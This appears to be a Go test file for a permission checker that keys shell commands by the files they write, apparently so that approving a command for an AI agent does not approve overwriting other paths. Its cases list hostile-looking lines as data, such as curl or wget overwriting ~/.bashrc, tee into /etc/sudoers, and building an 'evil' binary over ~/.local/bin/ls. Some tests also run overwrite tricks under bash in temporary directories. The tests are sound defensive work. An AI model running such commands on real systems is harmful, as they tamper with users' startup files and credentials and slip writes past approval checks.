package builtin

import (
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"
)

// innocentWrites are lines that write a file through a program's operand
// or option rather than a redirection, which a user may well answer
// "always" for; the lines of TestShellKeysNameFilesProgramsWrite must not
// be covered by their keys.
var innocentWrites = []string{
	"echo x | tee /tmp/a", "echo x | sudo tee /tmp/a", "/usr/bin/time -o /tmp/a ls", "sort -o /tmp/a f",
	"shuf -o /tmp/a f", "uniq f", "dd if=f of=/tmp/a", "curl -o /tmp/a http://x.test/",
	"wget -O /tmp/a http://x.test/", "curl -sL http://x.test/", "wget http://x.test/a.tgz",
	"printf x | sponge /tmp/a", "iconv -f utf8 -t ascii f", "patch -p1 < p.diff",
	"sort -o {} f", "curl -o {}.bak http://x.test/", "find . -name '*.go'",
	"curl -s 'http://x.test/{a,b}' -o '#1'", "curl -s 'http://x.test/[1-2]' -o '/tmp/#1'",
	"curl -w '%{http_code}' http://x.test/", "curl -sw@- http://x.test/ <<< '%{http_code}'",
	"curl --write-out=@fmt http://x.test/", "curl --expand-url http://x.test/ -o /tmp/a",
	"go build ./...", "go build -o bin/app .", "go test -coverprofile=cover.out ./...", "go build -o ls .",
}

// TestShellKeysNameFilesProgramsWrite: a program that writes a file named
// by its operand or option (tee FILE, sponge FILE, time -o, sort -o,
// uniq IN OUT, dd of=, curl -o, wget -O, iconv -o, patch -o and -r) does
// what a redirection to that file does,
// and is keyed as one: ">" and the path, so approving it for one file
// does not approve it for another. One whose file is computed, fed or
// named by the server has no keys (nil).
func TestShellKeysNameFilesProgramsWrite(t *testing.T) {
	tests := []struct {
		line string
		want []string
	}{
		{"echo x | tee ~/.bashrc", []string{">~/.bashrc", "echo", "tee"}},
		{"echo x | tee -a /tmp/a ~/.bashrc", []string{">/tmp/a", ">~/.bashrc", "echo", "tee"}},
		{"echo x | sudo tee /etc/sudoers", []string{">/etc/sudoers", "echo", "sudo", "tee"}},
		{"echo x | tee -- -a", []string{">-a", "echo", "tee"}},
		{"echo x | tee \"$F\"", nil},
		{"ls | xargs tee", nil},
		{"find . -exec tee {} \\;", nil},
		{"find . -exec sort -o {} {} \\;", nil},
		{"find . -exec sort {} -o{} \\;", nil},
		{"find . -exec sort {} --output={} \\;", nil},
		{"find . -exec curl -o{}.bak http://x.test/ \\;", nil},
		{"find . -exec wget -P{} http://x.test/ \\;", nil},
		{"curl -s $U", nil},
		{"curl -s \"$U\"", nil},
		{"/usr/bin/time -o ~/.bashrc ls", []string{"/usr/bin/time", ">~/.bashrc", "ls"}},
		{"env time -ao ~/.bashrc ls", []string{">~/.bashrc", "env", "ls", "time"}},
		{"command time --output=~/.bashrc ls", []string{">~/.bashrc", "command", "ls", "time"}},
		{"sort -o ~/.bashrc f", []string{">~/.bashrc", "sort"}},
		{"sort -ro~/.bashrc f", []string{">~/.bashrc", "sort"}},
		{"sort -k 2 f --output ~/.bashrc", []string{">~/.bashrc", "sort"}},
		{"ls | xargs sort", nil},
		{"shuf -o ~/.bashrc f", []string{">~/.bashrc", "shuf"}},
		{"uniq f ~/.bashrc", []string{">~/.bashrc", "uniq"}},
		{"uniq -f 1 f ~/.bashrc", []string{">~/.bashrc", "uniq"}},
		{"dd if=f of=~/.bashrc", []string{">~/.bashrc", "dd"}},
		{"dd of=\"$F\"", nil},
		{"dd \"o$F\"", nil},
		{"dd if=f -- \"$F\"", nil},
		{"uniq --skip-f 1 f ~/.bashrc", []string{">~/.bashrc", "uniq"}},
		{"curl -o ~/.bashrc http://x.test/", []string{">~/.bashrc", "curl"}},
		{"curl -sSLo ~/.bashrc http://x.test/", []string{">~/.bashrc", "curl"}},
		{"curl --output ~/.bashrc http://x.test/", []string{">~/.bashrc", "curl"}},
		{"curl -c ~/.bashrc -D h.txt http://x.test/", []string{">h.txt", ">~/.bashrc", "curl"}},
		{"curl -O http://x.test/.bashrc", nil},
		{"curl -K evil.cfg http://x.test/", nil},
		{"curl -s 'http://x.test/{.bashrc}' -o '#1'", nil},
		{"curl -s 'http://x.test/[1-2]' -o '/tmp/#1' -o ~/.bashrc", nil},
		{"curl -w '%output{~/.bashrc}x' http://x.test/", nil},
		{"curl -sw@- http://x.test/ <<< '%output{~/.bashrc}x'", nil},
		{"curl --write-out=@fmt http://x.test/", nil},
		{"curl --expand-output ~/.bashrc http://x.test/", nil},
		{"wget -O ~/.bashrc http://x.test/", []string{">~/.bashrc", "wget"}},
		{"wget -P ~/.config/autostart http://x.test/a.desktop", []string{">~/.config/autostart", "wget"}},
		{"wget -e output_document=x http://x.test/", nil},
		{"wget -N http://x.test/.bashrc", nil},
		{"wget -qNx -nH http://x.test/.git/config", nil},
		{"wget --timestamp http://x.test/.bashrc", nil},
		{"wget -c http://x.test/Makefile", nil},
		{"wget -r -nd http://x.test/", nil},
		{"wget --mirror http://x.test/", nil},
		{"wget -p http://x.test/", nil},
		{"wget --content-disposition http://x.test/a", nil},
		{"wget --trust-server-names http://x.test/a", nil},
		{"printf x | sponge ~/.bashrc", []string{">~/.bashrc", "printf", "sponge"}},
		{"iconv -f utf8 -t ascii -o ~/.bashrc f", []string{">~/.bashrc", "iconv"}},
		{"iconv --output=~/.bashrc f", []string{">~/.bashrc", "iconv"}},
		{"patch -p1 -o ~/.bashrc < p.diff", []string{">~/.bashrc", "patch"}},
		{"patch -p1 -r ~/.bashrc < p.diff", []string{">~/.bashrc", "patch"}},
		{"patch --reject-file=~/.bashrc < p.diff", []string{">~/.bashrc", "patch"}},
		{"patch ~/.bashrc p.diff", []string{">~/.bashrc", "patch"}},
		{"patch -p0 ~/.bashrc -i p.diff", []string{">~/.bashrc", "patch"}},
		{"patch -s ~/.bashrc <<< \"$DIFF\"", []string{">~/.bashrc", "patch"}},
		{"go build -o ~/.local/bin/ls ./cmd/evil", []string{">~/.local/bin/ls", "go"}},
		{"go build -o=~/.bashrc .", []string{">~/.bashrc", "go"}},
		{"go test -c --o ~/.bashrc .", []string{">~/.bashrc", "go"}},
		{"go test -coverprofile=~/.bashrc ./...", []string{">~/.bashrc", "go"}},
		{"go test ./... -cpuprofile ~/.bashrc", []string{">~/.bashrc", "go"}},
		{"go mod vendor -o ~/.ssh", []string{">~/.ssh", "go"}},
		{"go build -o \"$F\" .", nil},
		{"go -C ~/.local/bin build -o ls ./cmd/evil", nil},
	}
	for _, tt := range tests {
		t.Run(tt.line, func(t *testing.T) {
			got, err := keysOf(tt.line)
			checkKeys(t, tt.want, got, err)
			checkNotCovered(t, innocentWrites, got, err)
		})
	}
}

// TestShellKeysOfProgramsWritingNoFileStayTheSame: the same programs
// writing only to stdout, or to /dev/null, keep their names as keys.
func TestShellKeysOfProgramsWritingNoFileStayTheSame(t *testing.T) {
	tests := []struct {
		line string
		want []string
	}{
		{"go test ./... | tee /dev/null", []string{"go", "tee"}},
		{"echo x | tee", []string{"echo", "tee"}},
		{"sort -u -k 2,2 f", []string{"sort"}},
		{"uniq -c f", []string{"uniq"}},
		{"dd if=/dev/zero bs=1 count=1", []string{"dd"}},
		{"dd if=\"$F\" bs=1 count=1", []string{"dd"}},
		{"curl -s http://localhost:8080/health", []string{"curl"}},
		{"curl -sS -X POST -H 'Content-Type: application/json' -d '{}' http://localhost:8080/", []string{"curl"}},
		{"curl -o /dev/null -w '%{http_code}' http://localhost:8080/", []string{"curl"}},
		{"wget -qO- http://localhost:8080/", []string{"wget"}},
		{"time go test ./...", []string{"go"}},
		{"go build -o /dev/null ./...", []string{"go"}},
		{"go -C sub build -o /tmp/app .", []string{">/tmp/app", "go"}},
		{"go test -run TestX -count=1 -race ./...", []string{"go"}},
		{"patch -p1 < p.diff", []string{"patch"}},
		{"iconv -f latin1 -t utf8 f", []string{"iconv"}},
		// a value that looks like an option is still a value
		{"sort -t -o f", []string{"sort"}},
		{"curl -H 'X: -o' http://x.test/", []string{"curl"}},
		{"curl -s \"http://localhost:$PORT/health\"", []string{"curl"}},
		{"curl -s -w '%{http_code}\\n' http://x.test/", []string{"curl"}},
		// find's paths are no options
		{"find . -name '*.txt' -exec sort {} +", []string{"find", "sort"}},
	}
	for _, tt := range tests {
		t.Run(tt.line, func(t *testing.T) {
			got, err := keysOf(tt.line)
			checkKeys(t, tt.want, got, err)
		})
	}
}

// TestFoundFileWritesRunUnderBash: find puts each path it finds in place
// of the {} in an option's attached value, so sort -o{}ed writes a file
// named after the one found (pwned after pwn), not one named {}ed.
func TestFoundFileWritesRunUnderBash(t *testing.T) {
	checkRunsTouch(t, bashPath(t), ": > pwn; find . -name pwn -exec sort -o{}ed /dev/null \\;")
}

// TestCurlGlobWritesRunUnderBash: curl replaces #1 in -o's file with what
// the URL's first glob matched, so -o 'pwn#1' writes pwned.
func TestCurlGlobWritesRunUnderBash(t *testing.T) {
	if _, err := exec.LookPath("curl"); err != nil {
		t.Skip("needs curl to run its attack line")
	}
	checkRunsTouch(t, bashPath(t), `: > ed; curl -s "file://$PWD/{ed}" -o 'pwn#1'`)
}

// TestWgetTimestampingOverwritesUnderBash: wget, which saves a file that
// exists as FILE.1, overwrites it with -N when the server says its copy
// is newer, as a redirection would.
func TestWgetTimestampingOverwritesUnderBash(t *testing.T) {
	bash := bashPath(t)
	if _, err := exec.LookPath("wget"); err != nil {
		t.Skip("needs wget to run its attack line")
	}
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		http.ServeContent(w, r, "target", time.Unix(2e9, 0), strings.NewReader("new"))
	}))
	defer srv.Close()
	dir := t.TempDir()
	target := filepath.Join(dir, "target")
	if err := os.WriteFile(target, []byte("old"), 0o600); err != nil {
		t.Fatal(err)
	}
	if err := os.Chtimes(target, time.Unix(1e9, 0), time.Unix(1e9, 0)); err != nil {
		t.Fatal(err)
	}
	cmd := exec.Command(bash, "-c", "wget -q -N "+srv.URL+"/target")
	cmd.Dir = dir
	if out, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("wget: %v: %s", err, out)
	}
	if got, _ := os.ReadFile(target); string(got) != "new" {
		t.Errorf("target holds %q, want it overwritten", got)
	}
}

// TestPatchWritesItsOperandUnderBash: patch's first operand is the file
// it patches, here created from /dev/null.
func TestPatchWritesItsOperandUnderBash(t *testing.T) {
	if _, err := exec.LookPath("patch"); err != nil {
		t.Skip("needs patch to run its attack line")
	}
	checkRunsTouch(t, bashPath(t), `printf -- '--- /dev/null\n+++ x\n@@ -0,0 +1 @@\n+b\n' > p.diff; patch -s pwned p.diff`)
}
